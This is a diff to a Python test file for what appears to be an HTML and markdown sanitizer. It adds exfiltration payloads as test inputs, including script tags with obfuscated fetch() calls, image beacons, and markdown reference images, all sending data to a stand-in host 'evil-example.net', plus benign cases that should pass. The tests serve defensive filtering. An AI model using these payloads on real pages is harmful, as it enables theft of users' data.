@@ -224,6 +224,15 @@ EVIL = "https://collect.evil-example.net"
         '<iframe src="data:text/html;base64,PGltZz4="></iframe>',
         f'<iframe srcdoc="&lt;img src={EVIL}/p?d=1&gt;"></iframe>',
         f'<script src="{EVIL}/x.js"></script>',
+        f"<script>fetch('{EVIL}/')</script>",
+        "<script>\nlet it = 'fe' + 'tch'\nwindow[it]('//evil-example.net')\n</script>",
+        f"<p>see</p><SCRIPT\ntype=module >a = 1; new\tImage().src = '//{EVIL[8:]}/?' + name</script>",
+        f"<script>var to = '{EVIL}/?d=' + name</script>",
+        "<script><!--<script>\n</script>\nfetch(name)\n</script>",
+        f"<script>{'x' * 509}fetch(name)</script>",
+        f"<style>p {{}} <img src={EVIL}/p?d=1></style>",
+        f"![a][ b\n\n[a]: {EVIL}/p?d=1\n",
+        f"![a](b c d\n\n[a]: {EVIL}/p?d=1\n",
         f'<form action="{EVIL}/in"><input name="password"></form>',
         f'<img src="https:{EVIL[8:]}/p?d=1">',
         f'<img src="{EVIL}/\np?d=1">',
@@ -254,6 +263,8 @@ def test_scripts_are_no_surprise_to_who_talks_of_code_but_what_leads_to_stranger
             '<form action="https://api.example.org/in"> <script src="https://cdn.example.org/x.js"></script>', request
         )
         assert "[IMAGE_REDACTED]" in read(f"<b onclick=fetch('{EVIL}/?d=1')>", request=request)[0]
+        passes("<script>\nfetch('/save', {body: name})\n</script>", request)
+        assert "[IMAGE_REDACTED]" in read(f"<script>\nfetch('{EVIL}/?d=1')\n</script>", request=request)[0]
 
 
 def test_an_image_with_a_text_that_is_too_long_to_be_held_becomes_a_link() -> None:
@@ -278,6 +289,8 @@ def test_an_image_with_a_text_that_is_too_long_to_be_held_becomes_a_link() -> No
         "<style>\n.a { color: red; background: url(/static/a.png?v=2) }\n</style>\n<p class='a'>text</p>",
         '<base href="/app/"> <meta charset="utf-8"> <form action="/search"><input name="q"></form>',
         "if a <b then " + "it goes on " * 80,
+        "A <script> tag (as in any page) is fetched and evaluated; its location is not important. " * 9,
+        "<script type='application/ld+json'>{'name': 'Ada', 'url': 'https://example.org/ada'}</script>\n<script>go();</script> ok",
     ],
 )
 def test_ordinary_images_links_and_code_stay(text: str) -> None:
